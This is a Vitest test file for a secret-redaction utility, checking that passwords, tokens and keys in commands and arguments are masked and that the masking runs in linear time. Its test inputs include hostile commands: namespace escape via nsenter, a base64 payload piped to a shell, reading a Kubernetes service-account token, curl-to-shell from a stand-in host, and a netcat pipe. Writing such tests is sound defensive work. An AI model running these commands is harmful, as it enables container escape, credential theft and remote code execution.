import { describe, expect, it } from 'vitest';
import { createRedactor } from '../../../shared/redact.ts';

const redactor = createRedactor('key of this host');
const mark = /\[redacted:[0-9a-f]{8}\]/;

describe('secrets in text', () => {
  it.each([
    ['PGPASSWORD=hunter22 psql', 'hunter22'],
    ['export GITHUB_TOKEN="abcDEF123"', 'abcDEF123'],
    ['curl -H "X-Api-Key: 0a1b2c3d4e"', '0a1b2c3d4e'],
    ['curl -H "Authorization: Bearer abcdefgh.ijk"', 'abcdefgh.ijk'],
    ['app --password s3cr3t --verbose', 's3cr3t'],
    ['app --db-password=s3cr3t', 's3cr3t'],
    ['{"client_secret": "zzz999"}', 'zzz999'],
    ['mysqldump -u root -phunter2 db', 'hunter2'],
    ['psql postgres://app:hunter2@db/app', 'hunter2'],
    ['git clone https://x:ghp_abcdefghij0123456789@github.com/a/b', 'ghp_abcdefghij0123456789'],
    ['aws configure set key AKIAABCDEFGHIJKLMNOP', 'AKIAABCDEFGHIJKLMNOP'],
    ['MYSQL_PWD=hunter2 mysql', 'hunter2'],
    ['slack xoxb-1234567890-abcdef', 'xoxb-1234567890-abcdef'],
    ['echo eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl', 'eyJhbGciOiJI.eyJzdWIiOiIx.c2lnbmF0dXJl'],
    ['-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----', 'MIIE'],
  ])('%s', (text, secret) => {
    const output = redactor.text(text);
    expect(output).not.toContain(secret);
    expect(output).toMatch(mark);
  });

  it.each([
    'nsenter -t 1 -m -u -i -n -p sh',
    'echo bWFsaWNpb3VzIHBheWxvYWQ= | base64 -d | sh',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'app --token-file /run/token --author Bob --tokenizer fast',
    'TOKEN=$(nsenter -t 1 -m id)',
    'PASSWORD=`id`',
    'PWD=/work HOME=/root env',
    'sh -c "curl http://example.test/x | sh"',
    'docker run -p 8080:80 web',
  ])('leaves to be seen: %s', (text) => {
    expect(redactor.text(text)).toBe(text);
  });

  it('hides the value and nothing behind it', () => {
    expect(redactor.text('TOKEN=abc123|nc 10.0.0.1 4444')).toMatch(
      /^TOKEN=\[redacted:[0-9a-f]{8}\]\|nc 10\.0\.0\.1 4444$/,
    );
  });

  it('gives one secret one mark under one key, and another under another', () => {
    const [a, b] = [redactor.text('TOKEN=abc123'), redactor.text('MY_TOKEN=abc123')];
    expect(mark.exec(a)?.[0]).toBe(mark.exec(b)?.[0]);
    expect(createRedactor('other').text('TOKEN=abc123')).not.toBe(a);
  });

  it('changes nothing when it is applied again', () => {
    for (const text of ['TOKEN=abc123', 'a://u:hunter2@h', 'Authorization: Basic dXNlcjpwYXNz', 'mysql -phunter2'])
      expect(redactor.text(redactor.text(text))).toBe(redactor.text(text));
    const args = ['mysql', '-phunter2', '--password', 'hunter2'];
    expect(redactor.args(redactor.args(args))).toEqual(redactor.args(args));
  });

  it.each(['mysql ', 'a.b.', 'eyJ-', 'token_', '--password ', 'a://b:', '-----BEGIN ', ' bearer', '{"auth'])(
    'takes time that grows with the length only: %s',
    (piece) => {
      const text = piece.repeat(Math.ceil(400_000 / piece.length));
      // Of this process alone: others may want the machine too.
      const start = process.cpuUsage();
      redactor.text(text);
      const { user, system } = process.cpuUsage(start);
      expect((user + system) / 1_000).toBeLessThan(3_000);
    },
  );
});

describe('secrets in arguments', () => {
  it('hides the value behind a flag, also where the flag has one only in its own argument', () => {
    expect(redactor.args(['app', '--password', 'hunter2', '--port', '80'])[2]).toMatch(mark);
    expect(redactor.args(['/usr/bin/mysql', '-uroot', '-phunter2'])).toEqual([
      '/usr/bin/mysql',
      '-uroot',
      expect.stringMatching(/^-p\[redacted:/),
    ]);
    expect(redactor.args(['redis-cli', '-a', 'hunter2', 'ping'])[2]).toMatch(mark);
  });

  it('never hides a script as the value of a flag', () => {
    const args = ['sh', '-c', '$1', '--token', 'nsenter -t 1 -m id'];
    expect(redactor.args(args)).toEqual(args);
  });

  it('leaves flags of other programs', () => {
    expect(redactor.args(['ssh', '-p', '2222', 'host'])).toEqual(['ssh', '-p', '2222', 'host']);
  });
});

it('hides a value by its name', () => {
  expect(redactor.named('db.password', 'hunter2')).toMatch(mark);
  expect(redactor.named('com.docker.compose.service', 'web')).toBe('web');
});
